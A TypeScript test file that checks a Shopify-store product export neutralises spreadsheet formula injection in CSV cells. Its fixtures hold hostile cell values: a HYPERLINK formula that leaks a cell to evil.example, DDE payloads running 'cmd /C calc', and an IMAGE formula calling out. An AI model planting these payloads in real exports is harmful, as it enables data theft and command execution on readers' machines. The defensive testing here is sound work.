import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { GET } from "@/app/api/free-export/route";
import { normalizeProducts } from "@/lib/shopify-reader/normalize";
import type { Product } from "@/lib/shopify-reader/schemas";
import { seedAnalyzedStore } from "@/testing/directory-seed";
import { neutralizeFormula } from "./spreadsheet-formula";

// A store under an attacker's control names its products so that the free export, opened in a
// spreadsheet, runs formulas on the reader's machine. Each product is what /products.json
// served, through the same parser the pipeline uses, then downloaded through the real route.

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

function rawProduct(id: number, fields: Record<string, unknown>): Record<string, unknown> {
  return {
    id,
    handle: `hostile-${id}`,
    title: `Product ${id}`,
    body_html: "<p>Plain</p>",
    vendor: "Acme",
    product_type: "Shirts",
    tags: ["plain"],
    published_at: "2025-01-02T00:00:00Z",
    options: [{ name: "Size", values: ["S"] }],
    variants: [
      { id: id * 10, option1: "S", sku: `SKU-${id}`, price: "19.99", grams: 250, inventory_quantity: -3, requires_shipping: true },
    ],
    images: [{ src: `https://cdn.shopify.com/p${id}.jpg` }],
    ...fields,
  };
}

const served = [
  rawProduct(1, { title: HYPERLINK }),
  rawProduct(2, { title: "+cmd|' /C calc'!A0" }),
  rawProduct(3, { title: "@SUM(1+1)*cmd|' /C calc'!A0" }),
  rawProduct(4, { title: "\t=1+1" }),
  rawProduct(5, { title: "-2+3" }),
  rawProduct(6, { title: "\r=1+1", vendor: "=cmd|' /C calc'!A0", product_type: "+type", tags: ["=tag", "second"] }),
  rawProduct(7, {
    title: "  =1+1",
    options: [{ name: "@Size", values: ["-1+1"] }],
    variants: [{ id: 70, option1: "＝1+1", sku: "=sku", price: "=1+1", compare_at_price: "+2", grams: 0, requires_shipping: true }],
    images: [{ src: '=IMAGE("http://evil.example/x.png")' }],
  }),
  rawProduct(8, { title: "Blue shirt - summer edition", vendor: "Nørrebro & Co", tags: ["sale", "-50%"] }),
];

type Row = Record<string, string>;
let rows: Row[];
let products: Product[];

beforeAll(async () => {
  const normalized = normalizeProducts(served);
  expect(normalized.skipped).toBe(0);
  products = normalized.products;
  await seedAnalyzedStore({ domain: "formulas.test", products, publishedAt: new Date() });

  const response = await GET(new Request("http://localhost:3000/api/free-export?slug=formulas-test&format=csv"), {
    params: Promise.resolve({}),
  });
  expect(response.status).toBe(200);
  rows = parse(await response.text(), { columns: true }) as Row[];
});

const firstRow = (handle: string) => rows.find((row) => row.Handle === handle)!;

describe("GET /api/free-export?format=csv with a hostile store", () => {
  it("quotes every product title that a spreadsheet would run as a formula", () => {
    expect([1, 2, 3, 4, 5, 6, 7].map((id) => firstRow(`hostile-${id}`).Title)).toEqual([
      `'${HYPERLINK}`,
      "'+cmd|' /C calc'!A0",
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'\t=1+1",
      "'-2+3",
      "'\r=1+1",
      "'  =1+1",
    ]);
  });

  it("quotes vendors, types, tags, option names and values, SKUs, prices and image addresses alike", () => {
    expect(firstRow("hostile-6")).toMatchObject({ Vendor: "'=cmd|' /C calc'!A0", Type: "'+type", Tags: "'=tag, second" });
    expect(firstRow("hostile-7")).toMatchObject({
      "Option1 Name": "'@Size",
      "Option1 Value": "'＝1+1",
      "Variant SKU": "'=sku",
      "Variant Price": "'=1+1",
      "Variant Compare At Price": "'+2",
      "Image Src": '\'=IMAGE("http://evil.example/x.png")',
    });
  });

  it("leaves harmless text and the numbers we write as they are", () => {
    expect(firstRow("hostile-8")).toMatchObject({
      Title: "Blue shirt - summer edition",
      Vendor: "Nørrebro & Co",
      Tags: "sale, -50%",
      "Variant Price": "19.99",
      "Variant Grams": "250",
      // An oversold variant: a negative quantity is a number, not a formula.
      "Variant Inventory Qty": "-3",
      "Image Position": "1",
      "Image Src": "https://cdn.shopify.com/p8.jpg",
    });
    expect(firstRow("hostile-7")["Variant Grams"]).toBe("0");
  });

  it("leaves the JSON export as the store wrote it", async () => {
    const response = await GET(new Request("http://localhost:3000/api/free-export?slug=formulas-test&format=json"), {
      params: Promise.resolve({}),
    });
    const body = (await response.json()) as { products: Product[] };
    expect(body.products.map((p) => p.title)).toEqual(products.map((p) => p.title));
    expect(body.products[0]!.title).toBe(HYPERLINK);
  });
});

describe("neutralizeFormula", () => {
  it.each([
    ["=1", "'=1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@A1", "'@A1"],
    ["\t", "'\t"],
    ["\rx", "'\rx"],
    [" \n =1", "' \n =1"],
    ["\u00a0@x", "'\u00a0@x"],
    ["＝1", "'＝1"],
    ["＋1", "'＋1"],
    ["－1", "'－1"],
    ["＠x", "'＠x"],
    ["\u3000＝1", "'\u3000＝1"],
  ])("quotes %j", (cell, expected) => {
    expect(neutralizeFormula(cell)).toBe(expected);
  });

  it.each(["", "a=1", "1-2", "'=1", "https://x.test/?a=1", " plain", "Ü-Bahn"])("leaves %j alone", (cell) => {
    expect(neutralizeFormula(cell)).toBe(cell);
  });

  it("is linear on a long run of leading whitespace", () => {
    const cell = `${" ".repeat(1_000_000)}x`;
    const started = performance.now();
    expect(neutralizeFormula(cell)).toBe(cell);
    expect(performance.now() - started).toBeLessThan(200);
  });
});
